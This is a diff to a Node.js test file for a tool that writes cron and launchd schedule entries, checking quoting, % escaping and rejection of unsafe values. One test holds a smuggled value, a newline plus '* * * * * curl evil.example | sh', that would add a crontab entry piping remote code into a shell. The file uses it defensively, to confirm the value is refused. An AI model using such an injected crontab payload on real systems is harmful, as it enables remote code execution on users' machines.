@@ -4,6 +4,7 @@
 import assert from 'node:assert/strict'
 import { test } from 'node:test'
 import { UsageError } from '../../lib/errors.js'
+import { UnsafeValueError } from '../../lib/model/shell-quote.js'
 import { configInLine, cronLine, mergeCrontab, ourLine } from '../../lib/schedule/cron.js'
 import { configInPlist, launchAgentPlist } from '../../lib/schedule/launchd.js'
 import { jobSpec, parseEvery } from '../../lib/schedule/spec.js'
@@ -19,7 +20,8 @@ test('--every: what cron, systemd and launchd all express; anything else is a us
 test('the crontab line quotes paths with spaces and escapes %, which cron would turn into a newline', () => {
   const spec = jobSpec({ every: '30m', env: { PATH: '/opt/my tools/bin:/usr/bin' }, home: '/home/al ice', config: '/home/al ice/100%.yaml' })
   const line = cronLine(spec)
-  assert.match(line, /^\*\/30 \* \* \* \* 'PATH=\/opt\/my tools\/bin:\/usr\/bin' 'HOME=\/home\/al ice' /)
+  // Through env: a quoted 'PATH=…' word is no assignment to sh, which would run it as a command.
+  assert.match(line, /^\*\/30 \* \* \* \* \/usr\/bin\/env 'PATH=\/opt\/my tools\/bin:\/usr\/bin' 'HOME=\/home\/al ice' /)
   assert.match(line, /--config '\/home\/al ice\/100\\%\.yaml'/)
   assert.doesNotMatch(line.replace(/\\%/g, ''), /%/)
   assert.ok(ourLine(line))
@@ -62,7 +64,7 @@ test('a user\'s own line that mentions "# shipshape-doctor " is kept; only the e
 
 test('a newline in a value baked into the crontab line is refused; it cannot form a second entry', () => {
   const spec = jobSpec({ every: '1h', env: { PATH: '/usr/bin', DOCKER_HOST: 'unix:///s\n* * * * * curl evil.example | sh' }, home: '/home/a' })
-  assert.throws(() => cronLine(spec), (e: Error) => e instanceof UsageError && /^DOCKER_HOST holds a newline/.test(e.message))
+  assert.throws(() => cronLine(spec), (e: Error) => e instanceof UnsafeValueError && /^DOCKER_HOST holds a newline/.test(e.message))
   const cr = jobSpec({ every: '1h', env: { PATH: '/usr/bin', KUBECONFIG: '/k\r' }, home: '/home/a' })
-  assert.throws(() => cronLine(cr), UsageError)
+  assert.throws(() => cronLine(cr), UnsafeValueError)
 })
